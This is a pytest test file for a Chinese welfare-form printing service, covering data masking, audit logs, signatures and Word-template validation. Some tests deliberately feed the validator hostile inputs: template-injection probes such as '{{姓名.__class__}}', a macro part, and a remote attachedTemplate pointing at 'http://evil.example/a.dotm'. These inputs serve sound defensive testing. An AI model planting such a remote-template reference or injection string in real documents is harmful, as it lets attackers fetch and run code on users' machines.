"""Each form holds what the record knows, names its visit and who signed for whom, and keeps its masks."""

import io
import re
import zipfile
from datetime import date, timedelta

import docx
import pytest
from docx.oxml.ns import qn
from sqlalchemy import select

from app.agreements import rules_signing, signing_service
from app.agreements import service as agreements
from app.agreements.schemas import AgreementIn, Party, Sign
from app.benefits import rules as benefits
from app.db import reading, transaction, utcnow
from app.errors import AppError, BadInput, NotAllowed, NotFound
from app.households import looking_service
from app.households import register_service as register
from app.papers import form_service, record_service, rules, template_service
from app.papers.drawing import draw
from app.papers.layouts import LAYOUTS, Lines
from app.papers.rules import FIELDS, FORMS, LISTS
from app.papers.schemas import FormWish
from models.agreements import Agreement
from models.audit import AuditEntry
from models.benefits import Enrolment
from models.children import ChildCase
from tests import makers
from tests.agreements.drawing import address, png
from tests.papers.stage import BOY, GRANDMOTHER, UNCLE, Home, set_up, text_of

HOLDS = {
    "elder": ["刘桂英", "84 岁", "浙江宁波", "高血压", "☑与孙辈同住", "张大妈", "部分丧失生活自理能力"],
    "contacts": ["王国军", "张大妈", "村里联系人", "2026-10-01"],
    "support": ["每年三千元", "由 王国强 代 刘桂英 签", "录音编号 LY-3", "长期"],
    "care": ["张大妈", "☑分散供养", "部分丧失生活自理能力", "2027 年 1 月 31 日", "每月 500 元"],
    "child": ["王小明", "毛安小学三年级", "失联", "☑黄", "☑留守儿童", "刘桂英"],
    "guardianship": ["王小明", "刘桂英", "录像编号 SP-9", "☑有", "2027 年 2 月 28 日"],
    "visit": ["李敏", "屋顶漏雨", "☑不达标", "够", "腿疼", "上门"],
    "dibao": ["刘桂英", "王小明", "王国强", "肢体一级", "脱贫不稳定户"],
    "aid": ["刘桂英", "先行救助"],
    "disability": ["王国强", "☑肢体", "☑一级", "2028 年 1 月 1 日", "☑重度残疾人护理补贴"],
    "petition": ["诉求摘要"],
    "rectification": ["屋顶漏雨", "销号结论"],
}


@pytest.fixture
def one(database) -> Home:
    with transaction() as session:
        return set_up(session)


def printed(one: Home, name: str, **more) -> bytes:
    wish = FormWish(name=name, household=one.home.code, **({"reason": "办理待遇"} | more))
    with transaction() as session:
        return form_service.prepare(session, one.clerk, wish, utcnow()).drawn().data


def test_every_form_holds_the_record_and_names_its_visit(one):
    assert set(HOLDS) == set(FORMS) == set(LAYOUTS)
    for name, words in HOLDS.items():
        text = text_of(printed(one, name))
        assert [word for word in words if word not in text] == [], name
        assert one.visit.id in text, name
        assert "2026 年 11 月 20 日 李敏 上门" in text, name
        assert f"仅限民政救助使用　李敏　{utcnow() + timedelta(hours=8):%Y-%m-%d}" in text, name
        assert "{{" not in text, name
        assert "{%" not in text, name


def month_ahead(months: int) -> str:
    return benefits.shifted(benefits.month_of(register.today()), months)


@pytest.mark.parametrize(("to_month", "state", "words", "box"), [
    (1, "stopped", "在享受", "☑重度残疾人护理补贴"), (0, "stopped", "已停", "□重度残疾人护理补贴"),
    (-1, "active", "已停", "□重度残疾人护理补贴"), (1, "easing", "渐退", "☑重度残疾人护理补贴"),
])  # fmt: skip
def test_a_payment_that_stops_next_month_is_still_received(one, to_month, state, words, box):
    with transaction() as session:
        row = session.scalars(select(Enrolment).where(Enrolment.person_id == one.uncle.id)).one()
        row.to_month, row.state = month_ahead(to_month), state
    text = text_of(printed(one, "disability"))
    assert box in text
    assert f"{row.to_month}\n{words}" in text
    with reading() as session:
        on = register.today()
        subject, = record_service.subjects(session, one.clerk, FORMS["dibao"], one.home.id, None, on)
        said = record_service.words(session, one.clerk, FORMS["dibao"], subject, on)
    mine = next(line for line in said["成员"] if line["姓名"] == "王国强")
    assert mine["政策"] == ("" if words == "已停" else "残疾人护理补贴")


def test_a_payment_that_begins_next_month_is_not_received_yet(one):
    with transaction() as session:
        row = session.scalars(select(Enrolment).where(Enrolment.person_id == one.uncle.id)).one()
        row.from_month = month_ahead(1)
    text = text_of(printed(one, "disability"))
    assert "□重度残疾人护理补贴" in text
    assert "还没起发" in text


def test_numbers_stay_behind_their_masks(one):
    for name in FORMS:
        text = text_of(printed(one, name))
        for number in (GRANDMOTHER, UNCLE, BOY, "349927196602280010", "6228480000000012345", "15400000001"):
            assert number not in text, (name, number)
        assert re.search(r"(?<![\dXx])1\d{10}(?!\d)", text) is None, f"a telephone number in {name}"
    assert "349927********0028" in text_of(printed(one, "elder"))


def test_whole_numbers_only_where_the_law_asks_and_each_is_logged(one):
    assert GRANDMOTHER not in text_of(printed(one, "elder", full=True))
    text = text_of(printed(one, "care", full=True, reason="办理待遇"))
    assert GRANDMOTHER in text
    assert "349927196602280010" in text
    assert "15433334444" in text_of(printed(one, "contacts", full=True))
    with reading() as session:
        rows = list(session.scalars(select(AuditEntry).where(AuditEntry.action == "person.unmasked")))
        told = {(row.subject_id, row.after["field"], row.reason, row.actor_id) for row in rows}
        assert (one.grandmother.id, "id_number", "办理待遇", one.clerk.id) in told
        last = session.scalars(select(AuditEntry).where(AuditEntry.action == "paper.printed")
                               .order_by(AuditEntry.id.desc())).all()[1]  # fmt: skip
        assert last.after == {"form": "care", "people": [one.grandmother.id], "visit": one.visit.id, "full": True}
    with pytest.raises(BadInput) as caught:
        printed(one, "care", full=True, reason="")
    assert caught.value.code == "reason_needed"


def test_a_childs_record_asks_for_a_reason_and_no_case_is_told(one):
    with pytest.raises(BadInput) as caught:
        printed(one, "child", reason="")
    assert caught.value.code == "reason_needed"
    with transaction() as session:
        session.add(ChildCase(
            id="case", person_id=one.boy.id, household_id=one.home.id, division=one.home.division, stage="report",
            situation="abuse", restricted=True, report={"what": "额头有伤"}, author_id=one.clerk.id,
            reported_at=utcnow(), created_at=utcnow(),
        ))  # fmt: skip
    for name in FORMS:
        text = text_of(printed(one, name))
        assert "额头有伤" not in text
        assert "abuse" not in text
    assert "毛安小学" not in text_of(printed(one, "visit"))


def test_a_page_for_each_person_or_one_by_name(one):
    with transaction() as session:
        sister = makers.person(session, one.home, "王小红", born_on=one.boy.born_on, tags=("child_left_behind",))
        makers.child(session, sister)
    both = text_of(printed(one, "child"))
    assert "王小明" in both
    assert "王小红" in both
    assert both.count("农村留守儿童、困境儿童信息台账") == 2
    single = text_of(printed(one, "child", person="王小红"))
    assert single.count("农村留守儿童、困境儿童信息台账") == 1
    assert "王小红" in single


def test_nobody_prints_beyond_the_own_area_or_for_whom_it_does_not_fit(one):
    with transaction() as session:
        leader = makers.user(session, "leader", (makers.COUNTY,))
        with pytest.raises(NotAllowed):
            form_service.prepare(session, leader, FormWish(name="elder", household=one.home.code), utcnow())
        with pytest.raises(NotFound):
            form_service.prepare(session, one.stranger, FormWish(name="elder", household=one.home.code), utcnow())
        with pytest.raises(BadInput) as caught:
            form_service.prepare(
                session, one.clerk, FormWish(name="elder", household=one.home.code, person="王国强"), utcnow()
            )
        assert caught.value.code == "form_does_not_fit"
        with pytest.raises(BadInput) as unknown:
            form_service.prepare(session, one.clerk, FormWish(name="nothing", household=one.home.code), utcnow())
        assert "elder" in unknown.value.message


def test_an_unsigned_agreement_leaves_room_and_says_so(one):
    with transaction() as session:
        other = makers.household(session, code="H9", name="陈秀兰")
        lonely = makers.person(session, other, "陈秀兰", is_head=True, born_on=one.grandmother.born_on)
        makers.elder(session, lonely)
    wish = FormWish(name="support", household="H9")
    with transaction() as session:
        text = text_of(form_service.prepare(session, one.clerk, wish, utcnow()).drawn().data)
    assert "还没有人签" in text
    assert "每年现金" in text
    assert "还没有走访记录" in text


def _pictures(data: bytes) -> list[bytes]:
    """What is drawn in a Word file, in its order, as its reader finds it."""
    document = docx.Document(io.BytesIO(data))
    body = document.element.body
    numbers = [one.get("id") for one in body.iter(qn("wp:docPr"))]
    assert len(numbers) == len(set(numbers)), "Word takes no two drawings of one number"
    return [document.part.related_parts[one.get(qn("r:embed"))].blob for one in body.iter(qn("a:blip"))]


def _signed(one: Home, person: str, kind: str, party: int, data: bytes, **hand: str) -> str:
    if kind == "guardianship":
        with transaction() as session:
            looking_service.open_child(session, one.clerk, person, "benefit")
    with transaction() as session:
        row = session.scalars(select(Agreement).where(Agreement.person_id == person, Agreement.kind == kind)).one()
        said = Sign(party=party, picture=address(data), **({"by": "self"} | hand))
        drawn = rules_signing.drawing(said.picture)
        signing_service.sign(session, one.clerk, row.id, said, drawn, row.version, date(2026, 11, 30))
        return row.id


def test_what_was_drawn_on_the_screen_stands_at_its_place(one):
    assert _pictures(printed(one, "support")) == []
    hand = {"by": "proxy", "proxy": "王国强", "relation": "儿子", "why": "手受了伤"}
    row_id = _signed(one, one.grandmother.id, "support", 0, png(), **hand)
    sheet = printed(one, "support")
    assert _pictures(sheet) == [png()]
    assert "由 王国强 儿子 代 刘桂英 签：手受了伤（在屏幕上）" in text_of(sheet)
    lines = [[cell.text for cell in row.cells] for table in docx.Document(io.BytesIO(sheet)).tables
             for row in table.rows]  # fmt: skip
    [line] = [line for line in lines if "2026 年 11 月 30 日" in line]
    assert line[0] == "老人"
    with transaction() as session:
        row = session.get(Agreement, row_id)
        parties = [Party(role="elder", name="刘桂英"), Party(role="supporter", name="王国军", relation="儿子")]
        data = AgreementIn(kind="support", signed_on=row.signed_on, open_ended=True, parties=parties)
        agreements.correct(session, one.clerk, row.id, data, "抄错了", row.version)
    text = text_of(printed(one, "support"))
    assert "还没签，请当面签在右边" in text
    assert "2026 年 11 月 30 日" not in text.split("资料来源")[0]
    assert _pictures(printed(one, "support")) == []


def test_each_page_has_the_signatures_of_its_own_agreement(one):
    with transaction() as session:
        sister = makers.person(session, one.home, "王小红", born_on=one.boy.born_on, tags=("child_left_behind",))
        makers.child(session, sister)
        makers.agreement(session, sister, "guardianship", from_on=date(2026, 3, 1), open_ended=True,
                         parties=[{"role": "entruster", "name": "王国军"}])  # fmt: skip
        row = session.scalars(select(Agreement).where(Agreement.person_id == one.boy.id)).one()
        row.parties = [{"role": "carer", "name": "刘桂英", "signed": ""}]
    first, second = png(), png(200, 90)
    _signed(one, one.boy.id, "guardianship", 0, first)
    _signed(one, sister.id, "guardianship", 0, second)
    assert sorted(map(len, _pictures(printed(one, "guardianship")))) == sorted(map(len, (first, second)))
    for whose, data in (("王小明", first), ("王小红", second)):
        assert _pictures(printed(one, "guardianship", person=whose)) == [data]


def test_a_picture_keeps_its_shape_in_its_room():
    wide, tall = rules.picture(b"", 900, 100), rules.picture(b"", 100, 400)
    assert (wide.width_mm, round(wide.height_mm, 2)) == (30.0, 3.33)
    assert (tall.width_mm, tall.height_mm) == (3.0, 12.0)


def test_what_people_write_is_never_a_template(one):
    with transaction() as session:
        session.merge(one.home).attribute = "{{ 水印 }}<b>&"
    text = text_of(printed(one, "visit"))
    assert "{{ 水印 }}<b>&" in text


def test_the_shipped_templates_are_those_of_the_layouts(home):
    for name, parts in LAYOUTS.items():
        shipped = docx.Document(str(template_service.SHIPPED / f"{name}.docx"))
        assert shipped.element.body.xml == draw(FORMS[name].title, parts).element.body.xml, name
        template_service.check(name, (template_service.SHIPPED / f"{name}.docx").read_bytes())


def _has(row, part: str) -> bool:
    return row.find(f".//{qn(part)}") is not None


def test_a_table_that_goes_over_a_page_keeps_its_head():
    """Word repeats only the rows a table begins with, and parts a head from its rows unless each asks to stay."""
    for name, parts in LAYOUTS.items():
        document = docx.Document(str(template_service.SHIPPED / f"{name}.docx"))
        tables = document.element.body.findall(qn("w:tbl"))
        rows = [table.findall(qn("w:tr")) for table in tables]
        headed = [each for each in rows if len(each) > 2 and "{%tr for" in "".join(each[2].itertext())]
        assert len(headed) == sum(isinstance(part, Lines) for part in parts), name
        assert all(_has(row, "w:cantSplit") for each in rows for row in each), name
        for each in headed:
            assert [_has(row, "w:tblHeader") for row in each] == [True, True] + [False] * 3, name
            assert all(_has(cell, "w:keepNext") for row in each[:2] for cell in row.findall(qn("w:tc"))), name
            assert not _has(each[3], "w:keepNext"), name
        for table in tables:
            before = table.getprevious()
            assert before.tag == qn("w:p"), f"{name}: two tables that touch are one to Word"
            assert not _has(before, "w:b") or _has(before, "w:keepNext"), name


def test_a_record_fills_every_word_there_is(one):
    with transaction() as session:
        found = {}
        for kind in FORMS.values():
            for subject in record_service.subjects(session, one.clerk, kind, one.home.id, None, one.visit.on):
                found |= {key: True for key in record_service.words(session, one.clerk, kind, subject, one.visit.on)}
    assert set(found) == set(FIELDS) | set(LISTS)


def template(*paragraphs: str) -> bytes:
    made = docx.Document()
    for words in paragraphs:
        made.add_paragraph(words)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("paragraphs", "words"),
    [
        (["{{姓名}} {{籍贯}}"], "不认识占位符“籍贯”。"),
        (["{{姓名"], "占位符没有写完整"),
        (["{%p for 行 in 亲戚 %}", "{{行.姓名}}", "{%p endfor %}"], "没有“亲戚”这样的清单。"),
        (["{%p for 行 in 子女 %}", "{{行.工资}}", "{%p endfor %}"], "不认识占位符“行.工资”，子女 里有：序号、姓名"),
        (["{{姓名.__class__}}"], "不认识占位符“姓名.__class__”"),
        (["{{姓名|upper}}"], "不能写算式和函数"),
        (["{{ ''.join(姓名) }}"], "不能写算式和函数"),
        (["{% for 行 in range(9) %}{% endfor %}"], "清单"),
    ],
)
def test_a_bad_template_is_refused_with_its_placeholder(home, paragraphs, words):
    with pytest.raises(BadInput) as caught:
        template_service.check("visit", template(*paragraphs))
    assert words in caught.value.message
    assert caught.value.code == "bad_template"


def test_a_template_may_hold_a_picture_of_a_kind_that_only_word_knows(one):
    """An old emblem as EMF: several people's pages name it as one page does."""
    made = docx.Document()
    made.add_paragraph("{{姓名}}")
    made.add_paragraph().add_run().add_picture(io.BytesIO(png()))
    [image] = [part for part in made.part.related_parts.values() if part.content_type == "image/png"]
    image._blob = b"\x01\x00\x00\x00 EMF"
    out = io.BytesIO()
    made.save(out)
    template_service.check("elder", out.getvalue())
    whole = template_service.fill(out.getvalue(), [rules.sample()] * 3, foot="x")
    document = docx.Document(io.BytesIO(whole))
    blips = list(document.element.body.iter(qn("a:blip")))
    assert [document.part.related_parts[one.get(qn("r:embed"))].blob for one in blips] == [image.blob] * 3


def test_an_agreement_must_say_who_signed(home):
    with pytest.raises(BadInput) as caught:
        template_service.check("support", template("{{姓名}}"))
    assert "谁替谁签" in caught.value.message
    template_service.check("support", template("{{姓名}} {{签名说明}}"))


def test_a_template_is_no_program_and_fetches_nothing(home):
    good = template("{{姓名}}")

    def changed(name: str, data: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(out, "w") as new:
            for entry in old.namelist():
                if entry != name:
                    new.writestr(entry, old.read(entry))
            new.writestr(name, data)
        return out.getvalue()

    outside = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'  # noqa: E501
    for data in (b"hello", changed("word/vbaProject.bin", b"x"), changed("word/_rels/settings.xml.rels", outside)):
        with pytest.raises(AppError):
            template_service.check("visit", data)


def test_the_countys_own_template_is_used_until_it_is_reverted(one):
    with transaction() as session:
        admin = makers.user(session, "admin", ())
        with pytest.raises(NotAllowed):
            template_service.replace(session, one.clerk, "visit", "a.docx", template("{{姓名}}"), utcnow())
        template_service.replace(session, admin, "visit", "我县.docx", template("我县的表：{{户主}}"), utcnow())
        assert [(row.form, row.file_name) for row in template_service.listed(session, admin) if row.own] == [
            ("visit", "我县.docx")
        ]
    text = text_of(printed(one, "visit"))
    assert "我县的表：刘桂英" in text
    assert "资料来源：2026 年 11 月 20 日" in text
    assert "仅限民政救助使用" in text
    with transaction() as session:
        template_service.revert(session, admin, "visit")
    assert "我县的表" not in text_of(printed(one, "visit"))


def test_without_a_converter_there_is_a_sentence(home, monkeypatch):
    monkeypatch.setattr(form_service, "converter", lambda: None)
    with pytest.raises(AppError) as caught:
        form_service.to_pdf(form_service.File(b"", "a.docx"))
    assert caught.value.code == "no_converter"


def test_who_signed_for_whom_is_always_said():
    signed = rules.signature({"role": "elder", "name": "刘桂英", "signed": "proxy", "record": "王国强"})
    assert signed["怎么签"] == "由 王国强 代 刘桂英 签"
    assert "没写是谁" in rules.signature({"role": "elder", "name": "刘桂英", "signed": "proxy"})["怎么签"]
    far = {"role": "entruster", "name": "王国军", "signed": "phone", "record": "7"}
    assert rules.signature(far)["编号"] == "录音编号 7"
    assert "还没签" in rules.signature({"role": "child", "name": "王小明"})["怎么签"]


def test_the_page_of_printing_offers_what_fits(one):
    with reading() as session:
        page = form_service.page(session, one.clerk, one.home.id, utcnow())
        offered = {form.name: [who.name for who in form.people] for form in page.forms}
        assert offered["elder"] == ["刘桂英"]
        assert offered["child"] == ["王小明"]
        assert offered["disability"] == ["王国强"]
        assert offered["visit"] == []
        assert "2026 年 11 月 20 日 李敏 上门" in page.source
        supervisor = makers.user(session, "supervisor", (makers.COUNTY,))
        with pytest.raises(NotAllowed):
            form_service.page(session, supervisor, one.home.id, utcnow())
        with pytest.raises(NotFound):
            form_service.page(session, one.stranger, one.home.id, utcnow())


def test_whole_numbers_are_not_for_who_may_not_look_behind_a_mask(one):
    with transaction() as session:
        paired = makers.user(session, "paired", ())
        makers.pair(session, paired, one.home, one.visit.on.replace(year=2020))
        wish = FormWish(name="care", household=one.home.code, full=True, reason="办理待遇")
        with pytest.raises(NotAllowed):
            form_service.prepare(session, paired, wish, utcnow())
        page = form_service.page(session, paired, one.home.id, utcnow())
        assert not any(form.full for form in page.forms)
